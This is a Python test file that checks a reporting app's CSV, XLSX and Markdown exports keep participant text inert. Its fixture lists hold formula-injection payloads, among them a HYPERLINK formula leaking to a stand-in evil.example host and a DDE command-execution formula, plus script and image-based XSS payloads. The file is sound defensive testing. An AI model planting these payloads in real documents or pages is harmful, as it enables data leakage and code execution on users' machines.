"""What participants wrote stays text in every export: no live formula in CSV or XLSX (a card
`=HYPERLINK("http://…","y")`), no HTML, image or link in Markdown."""

import csv
import io

from markdown_it import MarkdownIt
from openpyxl import load_workbook

from cafe.domain.report import build
from cafe.reports import data as data_formats
from cafe.reports import documents
from tests.support.report import data, finding, labels

FORMULAS = ['=HYPERLINK("http://evil.example/?leak","y")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0"]
MARKUP = ['<img src=x onerror="alert(1)">', "![pixel](http://evil.example/t.png)",
          "[klik hier](http://evil.example)", "<script>alert(1)</script>",
          "Kijk op https://evil.example of www.evil.example"]


def exported():
    findings = [finding("need", text, n, key=f"s1:a1:card{n}")
                for n, text in enumerate(FORMULAS + MARKUP)]
    findings.append(finding("priority", "=1+2", 0, {"rank": 1, "score": 3, "dots": 3,
                                                     "method": "dot", "voters": 3},
                            key="s1:a2:card99", activity="=Stemming"))
    return data(findings, figures=[{"name": "@Inwoners", "value": "-3.5", "unit": "",
                                    "source": "=Statbel", "year": 2024}],
                stakeholders=[{"name": "+OCMW", "type": "-bestuur", "level": "co-decide"}])


def test_csv_cells_that_would_start_a_formula_are_text():
    rows = list(csv.reader(io.StringIO(data_formats.to_csv(exported()).decode("utf-8-sig"),
                                       newline=""), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    for text in FORMULAS + ["=1+2", "=Stemming", "@Inwoners", "=Statbel", "+OCMW", "-bestuur"]:
        assert "'" + text in cells, text
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert "-3.5" in cells  # a negative number stays a number


def test_xlsx_cells_are_strings_never_formulas():
    book = load_workbook(io.BytesIO(data_formats.to_xlsx(exported(), labels())))
    strings = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    strings[cell.value] = cell.data_type
    for text in FORMULAS + ["=1+2", "=Stemming", "@Inwoners"]:
        assert strings.get(text) in ("s", "inlineStr"), text  # kept exactly as written


def test_markdown_shows_html_images_and_links_as_text():
    markdown = documents.to_markdown(build(exported(), labels(), wordcloud=None))
    html = MarkdownIt("commonmark").enable("table").render(markdown)
    for tag in ("<img", "<a ", "<script"):
        assert tag not in html, tag
    inline = MarkdownIt("commonmark").enable("table")
    for text in MARKUP:  # what the reader sees is what the participant wrote
        assert inline.renderInline(documents.md(text)) == _escaped(text), text

def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace(
        '"', "&quot;")
